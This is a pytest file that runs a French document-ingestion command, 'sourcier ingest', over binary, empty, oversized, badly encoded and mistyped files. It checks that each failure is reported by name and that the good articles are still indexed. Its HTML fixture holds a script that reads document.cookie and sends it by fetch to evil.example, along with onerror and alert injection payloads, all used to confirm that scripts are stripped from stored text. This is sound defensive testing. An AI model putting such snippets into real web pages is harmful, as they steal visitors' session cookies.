"""Hostile files through the real ``sourcier ingest`` command (a subprocess, as users run it).

One directory holds good articles next to a binary file, an empty one, one over
``SOURCIER_MAX_FILE_BYTES``, a latin-1 one, an HTML page full of scripts, and a file of an
unsupported type is also given explicitly on the command line. Each bad file is reported by
name with its reason, the good ones are ingested all the same, the exit status is 1 and no
traceback is printed.
"""

from __future__ import annotations

import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from sourcier.config import Settings
from sourcier.store.base import DocumentRecord
from tests.support.index import make_settings
from tests.support.processes import child_env

pytestmark = pytest.mark.slow  # real `sourcier` subprocesses

MAX_FILE_BYTES = 20_000
SCRIPT_MARKERS = ("SCRIPT_SECRET_42", "alert(", "document.cookie", "fetch(", "console.log", "onerror")

GOOD_TEXT = (
    "Les abeilles de la vallée de la Drôme\n\n"
    "Les apiculteurs de la vallée de la Drôme ont récolté une quantité record de miel de lavande cette année. "
    "Selon la coopérative locale, la production a augmenté de trente pour cent par rapport à l'an dernier.\n\n"
    "Les chercheurs attribuent ce succès à un printemps doux et à l'absence de gel tardif.\n"
)

SCRIPTED_HTML = """<!DOCTYPE html>
<html lang="fr"><head>
<title>Le télescope du pic du Midi</title>
<script>var SCRIPT_SECRET_42 = document.cookie; fetch("https://evil.example/?c=" + SCRIPT_SECRET_42);</script>
<script type="module">console.log("SCRIPT_SECRET_42");</script>
<style>body { background: url("javascript:alert(1)"); }</style>
</head><body>
<nav><a href="/">Accueil</a> <a href="/actus">Actualités</a></nav>
<article>
<h1>Le télescope du pic du Midi</h1>
<p>L'observatoire du pic du Midi a inauguré un nouveau télescope consacré à l'étude du Soleil.
Les astronomes pourront y observer les taches solaires avec une précision inédite.</p>
<script>alert("SCRIPT_SECRET_42")</script>
<p>Le télescope a été financé par la région Occitanie et plusieurs universités françaises.
Les premières observations publiques auront lieu au printemps prochain.</p>
<img src="x" onerror="alert('SCRIPT_SECRET_42')">
<noscript>Activez JavaScript SCRIPT_SECRET_42</noscript>
</article>
<script>window.SCRIPT_SECRET_42 = 1;</script>
</body></html>
"""


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes
    reason: str  # what the report must say about it


HOSTILE = [
    Hostile("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "fichier binaire"),
    Hostile("vide.txt", b"", "fichier vide"),
    Hostile("blancs.md", b"   \n\n\t  \n", "fichier vide"),
    Hostile("énorme.txt", ("Une phrase française de remplissage. " * 2000).encode(), "trop volumineux"),
    Hostile("latin1.txt", "Élève à l'école, déjà noël : où est le château ?".encode("latin-1"), "UTF-8"),
    Hostile("utf16.txt", "Bonjour à tous, ceci est un texte.".encode("utf-16"), "fichier binaire"),
    Hostile("casse.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF illisible"),
    Hostile("faux.docx", b"Du texte, pas un document Word.", "ce n'est pas un fichier .docx"),
]
EXPLICIT_UNSUPPORTED = Hostile("rapport.odt", b"PK\x03\x04" + bytes(64), "non pris en charge")


@dataclass(frozen=True)
class Run:
    result: subprocess.CompletedProcess[str]
    corpus: Path
    settings: Settings
    documents: dict[str, DocumentRecord]
    chunk_count: int


@pytest.fixture(scope="module")
def run(model_cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Run:
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "corpus"
    (corpus / "sous-dossier").mkdir(parents=True)
    (corpus / "abeilles.txt").write_text(GOOD_TEXT, encoding="utf-8")
    (corpus / "sous-dossier" / "telescope.html").write_text(SCRIPTED_HTML, encoding="utf-8")
    for hostile in HOSTILE:
        (corpus / hostile.name).write_bytes(hostile.content)
    outside = root / EXPLICIT_UNSUPPORTED.name
    outside.write_bytes(EXPLICIT_UNSUPPORTED.content)
    settings = make_settings(root / "data", max_file_bytes=MAX_FILE_BYTES)
    result = subprocess.run(
        [sys.executable, "-m", "sourcier_cli", "ingest", str(corpus), str(outside)],
        env=child_env(settings, SOURCIER_MAX_FILE_BYTES=str(MAX_FILE_BYTES), COLUMNS="400"),
        capture_output=True,
        text=True,
        timeout=600,
        cwd=root,
    )
    from sourcier.store import open_store

    store = open_store(settings)
    try:
        documents = {r.document.id: r for r in store.list_documents()}
        chunk_count = store.count_chunks()
    finally:
        store.close()
    return Run(result, corpus, settings, documents, chunk_count)


def failure_lines(run: Run) -> list[str]:
    return [line for line in run.result.stderr.splitlines() if line.startswith("échec :")]


def test_exit_status_is_1_without_a_traceback(run: Run) -> None:
    output = run.result.stdout + run.result.stderr
    assert run.result.returncode == 1, output[-3000:]
    assert "Traceback" not in output and 'File "/' not in output, output[-3000:]
    assert "Bilan de l'ingestion" in run.result.stdout


@pytest.mark.parametrize("hostile", [*HOSTILE, EXPLICIT_UNSUPPORTED], ids=lambda h: h.name)
def test_each_bad_file_is_named_with_its_reason(run: Run, hostile: Hostile) -> None:
    lines = [line for line in failure_lines(run) if hostile.name in line]
    assert len(lines) == 1, (hostile.name, run.result.stderr[-3000:])
    assert hostile.reason in lines[0], lines[0]


def test_only_the_bad_files_failed(run: Run) -> None:
    assert len(failure_lines(run)) == len(HOSTILE) + 1, run.result.stderr[-3000:]
    row = [line for line in run.result.stdout.splitlines() if line.count("│") > 5][-1]
    files, added, _updated, _unchanged, _removed, failed = (c.strip() for c in row.split("│")[1:7])
    assert (files, added, failed) == (str(len(HOSTILE) + 3), "2", str(len(HOSTILE) + 1)), row


def test_the_good_files_were_still_ingested(run: Run) -> None:
    assert set(run.documents) == {"abeilles", "sous-dossier/telescope"}, sorted(run.documents)
    assert "miel de lavande" in run.documents["abeilles"].document.text
    assert run.chunk_count == sum(len(r.chunk_ids) for r in run.documents.values()) > 0


def test_html_scripts_never_reach_the_document_text(run: Run) -> None:
    record = run.documents["sous-dossier/telescope"]
    text = record.document.text
    assert "nouveau télescope consacré à l'étude du Soleil" in text
    assert "financé par la région Occitanie" in text
    assert record.document.title == "Le télescope du pic du Midi"
    for marker in SCRIPT_MARKERS:
        assert marker not in text, (marker, text)
        assert marker not in record.document.title
    assert "Accueil" not in text  # navigation is not article text either


def test_the_index_is_clean_after_a_rerun(run: Run) -> None:
    """Re-running over the same mess adds nothing and reports the same failures."""
    again = subprocess.run(
        [sys.executable, "-m", "sourcier_cli", "ingest", str(run.corpus)],
        env=child_env(run.settings, SOURCIER_MAX_FILE_BYTES=str(MAX_FILE_BYTES), COLUMNS="400"),
        capture_output=True,
        text=True,
        timeout=600,
        cwd=run.corpus.parent,
    )
    assert again.returncode == 1 and "Traceback" not in again.stderr
    row = [line for line in again.stdout.splitlines() if line.count("│") > 5][-1]
    cells = [c.strip() for c in row.split("│")[1:8]]
    assert cells[1] == "0" and cells[3] == "2" and cells[6] == "0", row  # added, unchanged, chunks written
